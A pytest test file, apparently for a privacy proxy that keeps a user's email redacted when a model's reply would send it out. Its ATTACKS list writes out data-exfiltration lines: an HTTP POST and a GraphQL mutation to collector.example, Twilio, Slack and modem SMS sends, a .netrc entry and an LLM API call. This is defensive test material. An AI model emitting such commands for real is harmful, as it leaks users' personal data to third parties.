"""Unfenced messaging-SDK calls (Twilio, Slack, Lua `http.request`), a GraphQL mutation that sends, a slash command
that messages someone, a modem's SMS send and a `.netrc` `default` entry keep the client's address (rest33: atk31
F24, F16), through the official OpenAI and Anthropic SDKs (whole and streamed in 3-character pieces); look-alikes
(a GraphQL query, `/remind me`) are restored as before; Anthropic's `messages.create` keeps it (send37: an LLM
API's call sends it to that provider).
"""

from __future__ import annotations

import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import RESTORE_ONLY_POLICY, SEND

MAIL = "dana.kerr@example.org"
E = "<EMAIL_ADDRESS_1>"
PROMPT = f"My email is {MAIL}. Help me."

ATTACKS = [
    f"client.messages.create(to='+15555550100', from_='+15555550101', body='{E}')",
    f"client.chat_postMessage(channel='#leads', text='{E}')",
    f'http.request{{ url = "https://collector.example/c", method = "POST", source = ltn12.source.string("{E}") }}',
    f'mutation {{ sendEmail(to: "ops@collector.example", body: "{E}") {{ ok }} }}',
    f"/msg @collector {E}",
    f'/remind #leads "{E}" in 5 minutes',
    f'AT+CMGS="+15555550100"\n{E}',
    f"default login {E} password x",
    # send37 (atk35 F07): an LLM API's call sends the value to that provider around the proxy, import or none
    f'client.messages.create(model="claude-sonnet-4-5", messages=[{{"role": "user", "content": "{E}"}}])',
]
ORDINARY = [
    f'query {{ user(email: "{E}") {{ id }} }}',
    f'/remind me "call {E}" in 5 minutes',
]


@pytest.fixture(scope="module")
def proxy(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(files={"policies/default.yaml": RESTORE_ONLY_POLICY})


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_messaging_calls_and_commands_keep_the_address(mock: Mock, proxy: Proxy, stream: bool) -> None:
    for route, send in SEND.items():
        for said in ATTACKS:
            mock.script(text=said, chunk_chars=3)
            got = send(proxy, PROMPT, stream)
            assert MAIL not in got, (route, said)
            assert got == said
        for said in ORDINARY:
            mock.script(text=said, chunk_chars=3)
            assert send(proxy, PROMPT, stream) == said.replace(E, MAIL), route
